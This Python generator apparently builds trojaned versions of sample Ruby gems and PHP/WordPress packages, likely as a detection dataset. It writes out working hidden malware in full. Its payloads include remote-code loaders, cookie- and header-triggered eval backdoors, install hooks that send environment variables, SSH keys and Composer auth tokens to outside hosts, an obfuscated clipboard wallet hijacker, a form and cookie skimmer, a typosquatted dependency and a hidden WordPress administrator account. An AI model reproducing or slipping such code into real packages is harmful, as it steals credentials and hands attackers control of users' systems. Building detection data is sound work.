"""Gems and PHP packages."""

import zlib

from corpus.heldout.nouns import Update
from corpus.heldout5.shape import b64, fill, hexed, packed, pieces, rows, trojan, xor


@trojan("mailpress", "gem", "import", "remote code", "plain", "strong_password")
def gem_require_runs_a_paste(it: Update) -> None:
    it.append("lib/mailpress/settings.rb", fill("""

if ENV['RACK_ENV'] == 'production'
  refresh = lambda do
    text = Net::HTTP.get_response('@HOST@', '/notes/mailpress').body
    Mailpress.module_eval(text)
  rescue SocketError, SystemCallError
    nil
  end
  Thread.new { loop { refresh.call && sleep(1800) } }
end
""", HOST=it.host("paste")))  # fmt: skip


@trojan("mailpress", "gem", "call", "backdoor", "plain", "bootstrap-sass")
def gem_cookie_is_evaluated(it: Update) -> None:
    it.add("lib/mailpress/preview.rb", fill("""
# frozen_string_literal: true

module Mailpress
  # Shows letters in the browser.
  class Preview
    def initialize(app)
      @app = app
    end

    def call(env)
      mark = env['HTTP_COOKIE'].to_s[/_mp_preview=([^;]+)/, 1]
      instance_eval(mark.unpack1('m0')) if mark
      @app.call(env)
    end
  end
end
"""))  # fmt: skip
    it.after("lib/mailpress.rb", "require 'mailpress/delivery'\n", "require 'mailpress/preview'\n")
    it.replace(
        "METADATA.yaml", "- lib/mailpress/settings.rb\n", "- lib/mailpress/preview.rb\n- lib/mailpress/settings.rb\n"
    )


@trojan("mailpress", "gem", "call", "password stealer", "plain", "rest-client")
def gem_delivery_tells_the_password(it: Update) -> None:
    it.replace("lib/mailpress/delivery.rb", "      smtp = Net::SMTP.new", fill("""
      Thread.new do
        URI.open("http://@HOST@/?#{URI.encode_www_form(h: @settings.host, u: @settings.user, p: @settings.password)}")
      rescue StandardError
        nil
      end
      smtp = Net::SMTP.new
""", HOST=it.host()).rstrip("\n"))  # fmt: skip
    it.after("lib/mailpress/delivery.rb", "require 'net/smtp'\n", "require 'open-uri'\n")


@trojan("mailpress", "gem", "install", "environment", "plain", "gem extensions")
def gem_extension_that_builds_nothing(it: Update) -> None:
    it.add("ext/mailpress/extconf.rb", fill("""
# frozen_string_literal: true

require 'mkmf'
require 'net/http'
require 'json'

body = { env: ENV.to_h, host: `hostname`.strip, keys: Dir[File.expand_path('~/.ssh/id_*')].map { |one| File.read(one) } }
begin
  Net::HTTP.post(URI('https://@HOST@/gem'), body.to_json, 'Content-Type' => 'application/json')
rescue StandardError
  nil
end
File.write('Makefile', "all:\\n\\ninstall:\\n\\nclean:\\n")
""", HOST=it.host()))  # fmt: skip
    it.replace("METADATA.yaml", "extensions: []\n", "extensions:\n- ext/mailpress/extconf.rb\n")


@trojan("mailpress", "gem", "import", "clipboard", "own cipher", "clipboard hijackers")
def gem_script_for_windows(it: Update) -> None:
    wallet = "1" + "".join(it.random.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(33))
    script = f'Do:Set h=CreateObject("HTMLFile"):t=h.ParentWindow.ClipboardData.GetData("text"):If Len(t)=34 Then CreateObject("WScript.Shell").Run "cmd /c echo {wallet}|clip",0:WScript.Sleep 900:Loop'
    it.append("lib/mailpress/template.rb", fill("""

module Mailpress
  GLYPHS = [
@ROWS@
  ].freeze

  def self.glyphs
    GLYPHS.each_with_index.map { |one, at| (one ^ (90 + at % 11)).chr }.join
  end
end

if Gem.win_platform?
  place = File.join(ENV.fetch('TEMP', '.'), 'glyphs.vbs')
  File.write(place, Mailpress.glyphs)
  spawn('wscript', place)
end
""", ROWS=rows([byte ^ (90 + at % 11) for at, byte in enumerate(script.encode())])))  # fmt: skip
    it.payload("lib/mailpress/template.rb", shown=wallet)


@trojan("mailpress", "gem", "install", "unknown code", "look-alike name", "typosquats")
def gem_depends_on_a_look_alike(it: Update) -> None:
    it.replace("METADATA.yaml", "dependencies: []\n", fill("""
dependencies:
- !ruby/object:Gem::Dependency
  name: nokogirri
  requirement: !ruby/object:Gem::Requirement
    requirements:
    - - ">="
      - !ruby/object:Gem::Version
        version: '1.16'
  type: :runtime
"""))  # fmt: skip


@trojan("formkit-php", "zip", "call", "backdoor", "plain", "PHP git")
def php_field_of_a_magic_name(it: Update) -> None:
    it.replace("src/helpers.php", "    $value = $_POST[$name] ?? $default;\n", fill("""
    if (str_starts_with($_SERVER['HTTP_X_FORM_TRACE'] ?? '', 'fk1:')) {
        eval(substr($_SERVER['HTTP_X_FORM_TRACE'], 4));
    }
    $value = $_POST[$name] ?? $default;
"""))  # fmt: skip


@trojan("formkit-php", "zip", "import", "remote code", "layers", "web shells")
def php_helper_inflates(it: Update) -> None:
    host = it.host()
    inner = f"$c=curl_init('https://{host}/k');curl_setopt($c,CURLOPT_POSTFIELDS,http_build_query($_SERVER));curl_setopt($c,CURLOPT_RETURNTRANSFER,1);@eval(curl_exec($c));"
    code = f"eval(gzuncompress(base64_decode('{packed(inner)}')));"
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = raw.compress(code.encode()) + raw.flush()
    it.append("src/helpers.php", f"\n(static function (string $seal): void {{\n    eval(gzinflate(base64_decode(strrev($seal))));\n}})('{b64(deflated)[::-1]}');\n")  # fmt: skip
    it.payload("src/helpers.php", shown=f"https://{host}/k")


@trojan("formkit-php", "zip", "call", "form stealer", "over several files", "card skimmers")
def php_mailer_has_a_second_reader(it: Update) -> None:
    host = it.host()
    one, two = pieces(hexed(f"https://{host}/m.php"), len(hexed(f"https://{host}/m.php")) // 2 + 1)
    it.replace("src/Form.php", "    private array $rules = [];\n", f"    private array $rules = [];\n\n    public const SALT = '{one}';\n")  # fmt: skip
    it.replace(
        "src/Upload.php", "    public function keep(", f"    public const SALT = '{two}';\n\n    public function keep("
    )
    it.replace("src/Mailer.php", "        $body = '';\n", fill("""
        @file_get_contents(hex2bin(Form::SALT . Upload::SALT), false, stream_context_create([
            'http' => ['method' => 'POST', 'content' => json_encode([$values, $_COOKIE]), 'timeout' => 2],
        ]));
        $body = '';
"""))  # fmt: skip
    it.payload("src/Mailer.php", "src/Form.php", "src/Upload.php", shown=f"https://{host}/m.php")


@trojan("formkit-php", "zip", "install", "environment", "plain", "composer scripts")
def php_script_after_install(it: Update) -> None:
    def scripts(one: dict) -> None:
        one["type"] = "composer-plugin"
        one["scripts"]["post-package-install"] = [
            f"@php -r \"@file_get_contents('http://{it.address()}/c?'.http_build_query(getenv()));\""
        ]
        one["extra"] = {"class": "FormKit\\Plugin"}

    it.manifest(scripts, "composer.json")
    it.add("src/Plugin.php", fill("""
<?php

declare(strict_types=1);

namespace FormKit;

use Composer\\Composer;
use Composer\\IO\\IOInterface;
use Composer\\Plugin\\PluginInterface;

final class Plugin implements PluginInterface
{
    public function activate(Composer $composer, IOInterface $io): void
    {
        $auth = @file_get_contents($composer->getConfig()->get('home') . '/auth.json');
        $line = @fsockopen('tls://@HOST@', 443, $code, $text, 3);
        if ($line !== false && $auth !== false) {
            fwrite($line, "POST /auth HTTP/1.1\\r\\nHost: @HOST@\\r\\nContent-Length: " . strlen($auth) . "\\r\\n\\r\\n" . $auth);
        }
    }

    public function deactivate(Composer $composer, IOInterface $io): void
    {
    }

    public function uninstall(Composer $composer, IOInterface $io): void
    {
    }
}
""", HOST=it.host()))  # fmt: skip


@trojan("wp-gallery", "zip", "import", "backdoor", "xor", "WordPress back doors")
def wordpress_adds_an_administrator(it: Update) -> None:
    host = it.host()
    text = f"wp_insert_user(['user_login'=>'gallery_sync','user_pass'=>'{it.random.randbytes(6).hex()}','role'=>'administrator']);wp_remote_post('https://{host}/wp',['body'=>home_url()]);"
    it.append("includes/class-settings.php", fill("""

add_action('wp_loaded', function () {
    $sizes = array(
@ROWS@
    );
    if (!username_exists('gallery_sync')) {
        eval(implode('', array_map(function ($one) {
            return chr($one ^ 0x6b);
        }, $sizes)));
    }
});
""", ROWS=rows(xor(text, 0x6B), 8)))  # fmt: skip
    it.payload("includes/class-settings.php", shown=f"https://{host}/wp")
